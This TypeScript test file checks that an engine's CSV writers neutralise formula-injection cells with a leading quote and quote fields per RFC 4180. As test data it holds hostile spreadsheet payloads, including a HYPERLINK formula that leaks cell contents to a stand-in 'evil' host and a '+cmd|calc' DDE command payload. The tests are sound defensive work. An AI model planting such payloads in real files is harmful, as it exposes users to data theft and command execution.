/**
 * Issue 14 item 6: every CSV the engine and CLI write neutralises formula-like cells (leading `'`), keeps numbers as
 * numbers, and quotes per RFC 4180: predictions.csv, suggestions.csv, acquisition.csv, dropped_rows.csv and the
 * `featurize` output.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { executeRun } from '../../../src/core/run';
import { csvCell, csvLine } from '../../../src/core/data/csvWrite';
import { csvCell as runCell } from '../../../src/core/run/files';
import { csvCell as boCell } from '../../../src/core/bo/io';
import { csvCell as featCell, command as featurize } from '../../../src/cli/commands/featurize';

const EVIL = ['=HYPERLINK("http://evil/?"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];

test('one shared CSV cell writer, spreadsheet-safe and RFC 4180', () => {
  assert.equal(runCell, csvCell);
  assert.equal(boCell, csvCell);
  assert.equal(featCell, csvCell);
  assert.equal(csvCell('=1+1'), "'=1+1");
  assert.equal(csvCell('=a,b'), `"'=a,b"`);
  assert.equal(csvCell('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
  assert.equal(csvCell('@x'), "'@x");
  assert.equal(csvCell('\rx'), `"'\rx"`);
  assert.equal(csvCell('-1.5'), '-1.5');
  assert.equal(csvCell(-1.5), '-1.5');
  assert.equal(csvCell('Fe2O3'), 'Fe2O3');
  assert.equal(csvLine(['a', 1, null, NaN]), 'a,1,,');
});

/** Every cell of a CSV text (RFC 4180, minimal parser for the test). */
function cells(text: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') { cell += '"'; i += 2; } else if (text[i] === '"') { i++; break; } else cell += text[i++];
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\n') cell += text[i++];
    out.push(cell);
    if (text[i] === ',' || text[i] === '\n') i++;
  }
  return out;
}

function assertSafe(file: string, text: string): void {
  for (const c of cells(text)) {
    if (c === '') continue;
    const bad = /^[=@\t\r]/.test(c) || (/^[+-]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c));
    assert.ok(!bad, `${file}: unsafe cell ${JSON.stringify(c)}`);
  }
}

test('run and suggest outputs (predictions, suggestions, acquisition, dropped_rows) neutralise hostile ids', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mi-inject-'));
  const rows = ['id,x1,x2,y'];
  for (let i = 0; i < 24; i++) {
    const id = i < EVIL.length ? EVIL[i] : `s${i}`;
    const q = /[",\r\n]/.test(id) ? `"${id.replace(/"/g, '""')}"` : id;
    rows.push(`${q},${(i / 24).toFixed(3)},${((i * 7) % 24 / 24).toFixed(3)},${i === 20 ? '=1+1' : (Math.sin(i) + 2).toFixed(3)}`);
  }
  writeFileSync(join(dir, 'd.csv'), rows.join('\n') + '\n');
  const cids = EVIL.map((e) => `${e}-c`);
  const cands = ['id,x1,x2', ...cids.map((id, k) => `${/[",\r\n]/.test(id) ? `"${id.replace(/"/g, '""')}"` : id},${(0.13 + k / 10).toFixed(2)},0.77`)];
  writeFileSync(join(dir, 'c.csv'), cands.join('\n') + '\n');
  writeFileSync(join(dir, 's.mi.yaml'), `version: 1
name: inj
dataset:
  path: d.csv
  id: id
  on_invalid: skip
  inputs: [{columns: [x1, x2], kind: numeric}]
  targets: [{column: y, goal: maximize}]
model: {type: ridge}
evaluation: {cv: {folds: 3}}
optimize:
  acquisition: ei
  batch: 3
  candidates: {path: c.csv, id: id}
`);
  const { manifest, manifestPath } = await executeRun(join(dir, 's.mi.yaml'), { out: join(dir, 'runs') });
  assert.equal(manifest.status, 'completed', JSON.stringify(manifest.error));
  const runDir = join(manifestPath, '..');
  for (const f of ['predictions.csv', 'suggestions.csv', 'acquisition.csv', 'dropped_rows.csv']) {
    const text = readFileSync(join(runDir, f), 'utf8');
    assertSafe(f, text);
  }
  const pred = readFileSync(join(runDir, 'predictions.csv'), 'utf8');
  assert.ok(pred.includes(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`), 'the id is kept, neutralised and quoted');
  assert.ok(cells(pred).includes("'@SUM(A1)"));
  assert.ok(cells(pred).includes("'-2+3"));
  const acq = readFileSync(join(runDir, 'acquisition.csv'), 'utf8');
  assert.ok(cells(acq).includes("'+cmd|calc-c"), acq.slice(0, 400));
  assert.ok(cells(readFileSync(join(runDir, 'suggestions.csv'), 'utf8')).filter((c) => c.startsWith("'")).length >= 2, 'suggested hostile ids are neutralised');
});

test('featurize output and its dropped-rows file neutralise hostile ids', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mi-inject-f-'));
  const rows = ['id,x,y', ...EVIL.map((id, i) => `${/[",\r\n]/.test(id) ? `"${id.replace(/"/g, '""')}"` : id},${i},${i === 2 ? '@bad' : i * 2}`)];
  writeFileSync(join(dir, 'd.csv'), rows.join('\n') + '\n');
  writeFileSync(join(dir, 's.mi.yaml'), 'version: 1\nname: f\ndataset:\n  path: d.csv\n  id: id\n  on_invalid: skip\n  inputs: [{column: x, kind: numeric}]\n  targets: [{column: y}]\n');
  const out = join(dir, 'f.csv');
  const origOut = process.stdout.write.bind(process.stdout);
  const origErr = process.stderr.write.bind(process.stderr);
  (process.stderr as { write: unknown }).write = () => true;
  (process.stdout as { write: unknown }).write = (s: unknown, ...r: unknown[]) => (typeof s === 'string' && s.endsWith('f.csv\n') ? true : (origOut as (...a: unknown[]) => boolean)(s, ...r));
  let code: number;
  try {
    code = await featurize.main([join(dir, 's.mi.yaml'), '--out', out]);
  } finally {
    (process.stdout as { write: unknown }).write = origOut;
    (process.stderr as { write: unknown }).write = origErr;
  }
  assert.equal(code, 0);
  const text = readFileSync(out, 'utf8');
  assertSafe('features.csv', text);
  assert.ok(cells(text).includes("'@SUM(A1)"));
  assertSafe('dropped', readFileSync(`${out}.dropped.csv`, 'utf8'));
});
